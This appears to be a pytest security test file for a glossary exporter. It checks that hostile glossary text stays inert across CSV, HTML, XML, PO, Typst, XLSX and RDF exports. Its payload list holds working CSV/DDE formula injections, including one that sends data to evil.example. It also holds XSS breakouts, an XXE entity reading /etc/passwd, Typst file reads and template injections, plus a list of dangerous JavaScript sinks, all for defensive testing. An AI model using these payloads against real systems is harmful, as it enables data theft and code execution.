"""Nothing from glossary text is executed or interpreted in any export (issue 8).

A scratch glossary holds one concept per hostile payload: spreadsheet
formulas, HTML/script breakouts, XML entities and CDATA ends, Typst markup
and code (`#eval`, `#panic`, `#read`, `]`, `\\`), PO escapes and newlines,
template placeholders. Every payload is the English term (so CSV cells start
with it), part of the Albanian term, both definitions, a note, the term's
context and source; the glossary's name is hostile too. Each format is then
exported through `moci-vocab export` and read back with a real parser of
that format: the payload must come back as the same text, and the document
must have the structure it has without payloads (no extra element, entry,
row or script). Formats whose exporter does not exist yet are skipped.
"""

from __future__ import annotations

import csv
import importlib.util
import json
import re
import shutil
import subprocess
from html.parser import HTMLParser
from pathlib import Path

import pytest

from moci_vocab.exporters import EXPORTERS
from moci_vocab.model import Concept, Term
from moci_vocab.store import load_glossary, load_manifest, save_concept, save_manifest

PAYLOADS: dict[str, str] = {
    "csv-formula": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "csv-plus": "+cmd|' /C calc'!A0",
    "csv-minus": "-2+3",
    "csv-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "csv-quote": "'=1+1",
    "html-script": '</script><script>alert("moci")</script>',
    "html-attr": '"><img src=x onerror=alert(1)>',
    "html-quote": "' onmouseover='alert(1)' x='",
    "html-comment": "<!-- --><style>*{display:none}</style><!--",
    "xml-cdata": "]]><term>injected</term><![CDATA[",
    "xml-entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;&amp;&#x41;',
    "typst-eval": '#eval("panic(\\"typst-eval\\")")',
    "typst-panic": '#panic("typst-injection")',
    "typst-read": '#read("/etc/passwd")',
    "typst-markup": "*bold* _em_ $x^2$ @nolabel <label> `raw` // comment",
    "typst-brackets": "] [ #} { \\ #let x = 1 /* open",
    "po-escape": 'a\\n" msgstr "evil',
    "po-newline": 'one\nmsgid "x"\nmsgstr "evil"\n#, fuzzy',
    "po-backslash": "ends with a backslash \\",
    "template": "{{DATA}} {{SCRIPT}} ${7*7} {{constructor.constructor('alert(1)')()}}",
    "json": '"}, "evil": true, "x": {"',
    "format": "%s %(name)s %1$s {0} %n",
}
HOSTILE_NAME = '<b>MOCI</b> & "Co" #panic("name") =1+1'
SQ = " (sq)"  # the Albanian term is the payload plus this


def exporter_exists(fmt: str) -> bool:
    module = EXPORTERS[fmt].split(":")[0]
    return (
        importlib.util.find_spec(module) is not None
        and importlib.util.find_spec("moci_vocab.cli.export") is not None
    )


def needs(fmt: str):
    return pytest.mark.skipif(not exporter_exists(fmt), reason=f"no {fmt} exporter yet")


def build(moci, payloads: dict[str, str], name: str) -> list[Concept]:
    """One concept per payload, written by the store (exact text, canonical file)."""
    root = moci.root
    manifest = load_manifest(root)
    manifest.name = name
    save_manifest(root, manifest)
    concepts = []
    for key, text in payloads.items():
        concept = Concept(
            id=f"p-{key}",
            status="approved",
            definition={"en": text, "sq": "def " + text},
            note={"en": text},
            terms={
                "en": [Term(term=text, status="preferred", context=text, source=text)],
                "sq": [Term(term=text + SQ, status="preferred", note=text)],
            },
        )
        save_concept(root, concept)
        concepts.append(concept)
    load_glossary(root)  # everything written loads again without an error
    return concepts


@pytest.fixture
def hostile(moci, tmp_path):
    build(moci, PAYLOADS, HOSTILE_NAME)
    return moci


@pytest.fixture
def benign(tmp_path):
    """The same glossary shape with harmless words (for structure comparisons)."""
    from click.testing import CliRunner
    from conftest import Moci

    from moci_vocab.cli import cli

    root = tmp_path / "benign"
    result = CliRunner().invoke(
        cli, ["init", str(root), "--source", "en", "--languages", "sq,ka,hy,sr-Latn,sr-Cyrl"]
    )
    assert result.exit_code == 0, result.output
    moci = Moci(root)
    build(moci, {key: f"word {i}" for i, key in enumerate(PAYLOADS)}, "Plain Name")
    return moci


def export(moci, fmt: str, out: Path, *extra: str) -> list[Path]:
    out.mkdir(parents=True, exist_ok=True)
    moci("export", fmt, "--lang", "en,sq", "-o", str(out), *extra)
    files = sorted(p for p in out.iterdir() if p.is_file())
    assert files, f"export {fmt} wrote nothing"
    return files


def all_strings(value) -> list[str]:
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [s for k, v in value.items() for s in (*all_strings(k), *all_strings(v))]
    if isinstance(value, list):
        return [s for item in value for s in all_strings(item)]
    return []


# --------------------------------------------------------------------------- JSON


@needs("json")
def test_json_round_trips_every_payload(hostile, tmp_path):
    (path,) = export(hostile, "json", tmp_path / "out")
    data = json.loads(path.read_text(encoding="utf-8"))
    strings = set(all_strings(data))
    for text in PAYLOADS.values():
        assert text in strings and text + SQ in strings
    assert "evil" not in json.dumps(list(data)) and not any(k == "evil" for k in strings)


# --------------------------------------------------------------------------- CSV


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@needs("csv")
@pytest.mark.parametrize("bom", [False, True])
def test_csv_cells_never_start_a_formula(hostile, tmp_path, bom):
    files = export(hostile, "csv", tmp_path / "out", *(["--bom"] if bom else []))
    for path in files:
        with open(path, encoding="utf-8-sig", newline="") as handle:
            rows = list(csv.reader(handle))
        cells = [cell for row in rows for cell in row]
        for cell in cells:
            assert not cell.startswith(FORMULA_STARTS), (path.name, cell)
        # Each payload is there, shown as text: as it is, or behind one apostrophe.
        for text in PAYLOADS.values():
            shown = "'" + text if text.startswith((*FORMULA_STARTS, "'")) else text
            assert shown in cells, (path.name, text)
        widths = {len(row) for row in rows}
        assert len(widths) == 1, (path.name, widths)  # no cell broke out into a new column
    wide = next(p for p in files if not p.stem.endswith("-terms"))
    with open(wide, encoding="utf-8-sig", newline="") as handle:
        assert len(list(csv.reader(handle))) == 1 + len(PAYLOADS)  # header + one row each


SPACED = {
    "space": ' =HYPERLINK("http://evil.example/?"&A1,"click")',
    "spaces": "   @SUM(1+1)",
    "nbsp": "\u00a0+cmd|' /C calc'!A0",
    "space-tab": " \t-2+3",
}


@needs("csv")
def test_csv_cells_never_start_a_formula_after_spaces(moci, tmp_path):
    # LibreOffice's CSV import with "Trim spaces" reads " =1+1" as the formula "=1+1".
    build(moci, SPACED, "Plain Name")
    files = export(moci, "csv", tmp_path / "out")
    for path in files:
        with open(path, encoding="utf-8", newline="") as handle:
            cells = [cell for row in csv.reader(handle) for cell in row]
        for cell in cells:
            assert not cell.lstrip().startswith(FORMULA_STARTS), (path.name, cell)
        for text in SPACED.values():
            assert "'" + text in cells, (path.name, text)


# --------------------------------------------------------------------------- PO, POT, MO


def in_one_line(text: str) -> str:
    """A term as the PO exporter writes it: a msgid is one line, so newlines become spaces."""
    return " ".join(text.split("\n"))


def _entries(catalog) -> list:
    return [e for e in catalog if not e.obsolete and e.msgid != ""]


@needs("po")
def test_po_keeps_every_payload_inside_its_strings(hostile, tmp_path):
    import polib

    files = export(hostile, "po", tmp_path / "out")
    sq = next(p for p in files if p.name == "sq.po")
    catalog = polib.pofile(str(sq))
    entries = {e.msgctxt: e for e in _entries(catalog)}
    assert len(_entries(catalog)) == len(PAYLOADS)  # no entry was injected
    for key, text in PAYLOADS.items():
        entry = entries[f"p-{key}"]
        assert entry.msgid == in_one_line(text)
        assert entry.msgstr == in_one_line(text + SQ)
        assert "fuzzy" not in entry.flags
    assert not any("evil" in key.casefold() for key in catalog.metadata)
    _msgfmt_check(sq)


@needs("pot")
def test_pot_keeps_every_payload_inside_its_strings(hostile, tmp_path):
    import polib

    files = export(hostile, "pot", tmp_path / "out")
    (pot,) = [p for p in files if p.suffix == ".pot"]
    catalog = polib.pofile(str(pot))
    assert sorted(e.msgid for e in _entries(catalog)) == sorted(map(in_one_line, PAYLOADS.values()))
    assert all(e.msgstr == "" for e in _entries(catalog))
    _msgfmt_check(pot)


@needs("mo")
def test_mo_keeps_every_payload(hostile, tmp_path):
    import polib

    files = export(hostile, "mo", tmp_path / "out")
    mo = next(p for p in files if p.name == "sq.mo")
    catalog = polib.mofile(str(mo))
    translations = {(e.msgctxt, e.msgid): e.msgstr for e in catalog if e.msgid}
    assert len(translations) == len(PAYLOADS)
    for key, text in PAYLOADS.items():
        assert translations[(f"p-{key}", in_one_line(text))] == in_one_line(text + SQ)


def _msgfmt_check(path: Path) -> None:
    msgfmt = shutil.which("msgfmt")
    if msgfmt is None:
        return
    result = subprocess.run(
        [msgfmt, "--check", "-o", "/dev/null", str(path)], capture_output=True, text=True
    )
    assert result.returncode == 0, result.stderr


# --------------------------------------------------------------------------- TBX


@needs("tbx")
def test_tbx_is_well_formed_and_holds_the_payloads_as_text(hostile, tmp_path):
    from lxml import etree

    (path,) = export(hostile, "tbx", tmp_path / "out")
    raw = path.read_bytes()
    assert b"<!ENTITY" not in raw and b"<![CDATA[" not in raw
    parser = etree.XMLParser(resolve_entities=False, no_network=True, load_dtd=False)
    tree = etree.fromstring(raw, parser)
    terms = [el.text for el in tree.iter() if isinstance(el.tag, str) and _local(el.tag) == "term"]
    expected = [t for text in PAYLOADS.values() for t in (text, text + SQ)]
    assert sorted(terms) == sorted(expected)  # no injected <term>, every payload intact
    assert not [el for el in tree.iter() if isinstance(el, etree._Entity)]
    entries = [
        el
        for el in tree.iter()
        if isinstance(el.tag, str) and _local(el.tag) in ("termEntry", "conceptEntry")
    ]
    assert len(entries) == len(PAYLOADS)


def _local(tag: str) -> str:
    return tag.rsplit("}", 1)[-1]


# --------------------------------------------------------------------------- HTML


class _Structure(HTMLParser):
    """The tags and attribute names of a page, and the text of its JSON data block."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, tuple[str, ...]]] = []
        self.data_blocks: list[str] = []
        self._in_data = False

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, tuple(sorted(name for name, _ in attrs))))
        self._in_data = tag == "script" and ("type", "application/json") in attrs

    def handle_endtag(self, tag):
        self._in_data = False

    def handle_data(self, data):
        if self._in_data:
            self.data_blocks.append(data)


def _structure(path: Path) -> _Structure:
    parser = _Structure()
    parser.feed(path.read_text(encoding="utf-8"))
    parser.close()
    return parser


@needs("html")
def test_html_payloads_stay_data(hostile, benign, tmp_path):
    (page,) = [p for p in export(hostile, "html", tmp_path / "out") if p.suffix == ".html"]
    (plain,) = [p for p in export(benign, "html", tmp_path / "plain") if p.suffix == ".html"]
    seen, expected = _structure(page), _structure(plain)
    # The same elements and attributes as a page of harmless words: nothing broke out.
    assert seen.tags == expected.tags
    assert not any(name.startswith("on") for _tag, names in seen.tags for name in names)
    text = page.read_text(encoding="utf-8")
    assert "<img" not in text and "</script><script>alert" not in text
    # The data block is JSON that still holds every payload as a string.
    (block,) = seen.data_blocks
    strings = set(all_strings(json.loads(block)))
    for payload in PAYLOADS.values():
        assert payload in strings
    title = re.search(r"<title>(.*?)</title>", text, re.S)[1]
    assert "<b>" not in title and "&lt;b&gt;" in title


@needs("html")
def test_html_script_never_turns_data_into_markup():
    """The page's script writes glossary text with textContent, never as HTML or code."""
    script = Path(importlib.util.find_spec("moci_vocab.exporters").origin).parent / "glossary.js"
    source = script.read_text(encoding="utf-8")
    for sink in (
        "innerHTML",
        "outerHTML",
        "insertAdjacentHTML",
        "document.write",
        "eval(",
        "new Function",
        'setTimeout("',
        "srcdoc",
    ):
        assert sink not in source, sink


# --------------------------------------------------------------------------- booklet (Typst)


@needs("booklet")
def test_booklet_prints_typst_markup_as_text(hostile, tmp_path):
    from pypdf import PdfReader

    pytest.importorskip("typst")
    files = export(hostile, "booklet", tmp_path / "out")
    (pdf,) = [p for p in files if p.suffix == ".pdf"]
    text = " ".join(page.extract_text() for page in PdfReader(str(pdf)).pages)
    flat = re.sub(r"\s+", "", text)
    # Compiled at all: `#panic(...)`, `@nolabel` or an open `/*` read as markup would
    # have stopped Typst. And the code is on the page as the letters typed:
    for literal in (
        '#panic("typst-injection")',
        '#read("/etc/passwd")',
        "*bold*",
        "_em_",
        "$x^2$",
        "@nolabel",
        "<label>",
        "#letx=1",
        "/*open",
    ):
        assert re.sub(r"\s+", "", literal) in flat, literal
    assert "root:x:0" not in text  # #read was not run


# --------------------------------------------------------------------------- Weblate


@needs("weblate")
def test_weblate_files_keep_every_payload_inside_their_strings(hostile, tmp_path):
    from lxml import etree
    from translate.storage import po

    out = tmp_path / "out"
    hostile("export", "weblate", "--lang", "en,sq", "-o", str(out))
    store = po.pofile.parsefile(str(out / "weblate" / "sq.po"))
    units = {u.getcontext(): u for u in store.units if not u.isheader()}
    assert len(units) == len(PAYLOADS)  # no entry was injected
    for key, text in PAYLOADS.items():
        unit = units[f"p-{key}"]
        assert (unit.source, unit.target) == (in_one_line(text), in_one_line(text + SQ))
        assert unit.typecomments == ["#, terminology\n"]  # no flag was injected
    _msgfmt_check(out / "weblate" / "sq.po")
    parser = etree.XMLParser(resolve_entities=False, no_network=True, load_dtd=False)
    tree = etree.fromstring((out / "weblate" / "sq.tbx").read_bytes(), parser)
    terms = [el.text for el in tree.iter() if isinstance(el.tag, str) and _local(el.tag) == "term"]
    assert sorted(terms) == sorted(
        in_one_line(t) for text in PAYLOADS.values() for t in (text, text + SQ)
    )
    with open(out / "weblate" / "sq.csv", encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    assert len(rows) == 1 + len(PAYLOADS) and {len(row) for row in rows} == {5}
    assert not any(cell.startswith(FORMULA_STARTS) for row in rows for cell in row)


# --------------------------------------------------------------------------- OmegaT


@needs("omegat")
def test_omegat_lines_keep_every_payload(hostile, tmp_path):
    from test_export_tools import read_omegat

    from moci_vocab.versioninfo import one_line

    (path,) = export(hostile, "omegat", tmp_path / "out")
    entries = read_omegat(path)
    assert len(entries) == len(PAYLOADS)  # no line broke into two, none was taken for a comment
    pairs = {(source, target) for source, target, _comment in entries}
    for text in PAYLOADS.values():
        assert (one_line(text), one_line(text + SQ)) in pairs


# --------------------------------------------------------------------------- TMX


@needs("tmx")
def test_tmx_is_well_formed_and_holds_the_payloads_as_text(hostile, tmp_path):
    from lxml import etree
    from translate.storage import tmx

    (path,) = export(hostile, "tmx", tmp_path / "out")
    raw = path.read_bytes()
    assert b"<!ENTITY" not in raw and b"<![CDATA[" not in raw
    parser = etree.XMLParser(resolve_entities=False, no_network=True, load_dtd=False)
    tree = etree.fromstring(raw, parser)
    assert len(tree.findall("body/tu")) == len(PAYLOADS)
    store = tmx.tmxfile.parsefile(str(path))
    pairs = {(u.source, u.target) for u in store.units}
    assert pairs == {(text, text + SQ) for text in PAYLOADS.values()}


# --------------------------------------------------------------------------- XLSX


@needs("xlsx")
def test_xlsx_cells_are_text_never_formulas(hostile, tmp_path):
    import openpyxl

    (path,) = export(hostile, "xlsx", tmp_path / "out")
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["glossary", "en-sq", "definitions"]
    values = set()
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                values.add(cell.value)
    for text in PAYLOADS.values():
        assert {text, text + SQ, "def " + text} <= values
    glossary = list(book["glossary"].iter_rows(values_only=True))
    assert len(glossary) == 1 + len(PAYLOADS)
    assert {len(row) for row in glossary} == {len(glossary[0])}


# --------------------------------------------------------------------------- SKOS


@needs("skos")
def test_skos_turtle_and_jsonld_hold_the_payloads_as_literals(hostile, tmp_path):
    import rdflib
    from rdflib.namespace import RDF, SKOS

    files = export(hostile, "skos", tmp_path / "out")
    assert sorted(p.suffix for p in files) == [".jsonld", ".ttl"]
    for path in files:
        graph = rdflib.Graph().parse(path, format="turtle" if path.suffix == ".ttl" else "json-ld")
        assert len(graph) > 0
        assert len(set(graph.subjects(RDF.type, SKOS.Concept))) == len(PAYLOADS)
        labels = {str(o) for o in graph.objects(None, SKOS.prefLabel)}
        assert labels == {t for text in PAYLOADS.values() for t in (text, text + SQ)}
        definitions = {str(o) for o in graph.objects(None, SKOS.definition)}
        assert definitions == {d for text in PAYLOADS.values() for d in (text, "def " + text)}
        titles = {
            str(o) for o in graph.objects(None, rdflib.URIRef("http://purl.org/dc/terms/title"))
        }
        assert titles == {HOSTILE_NAME}
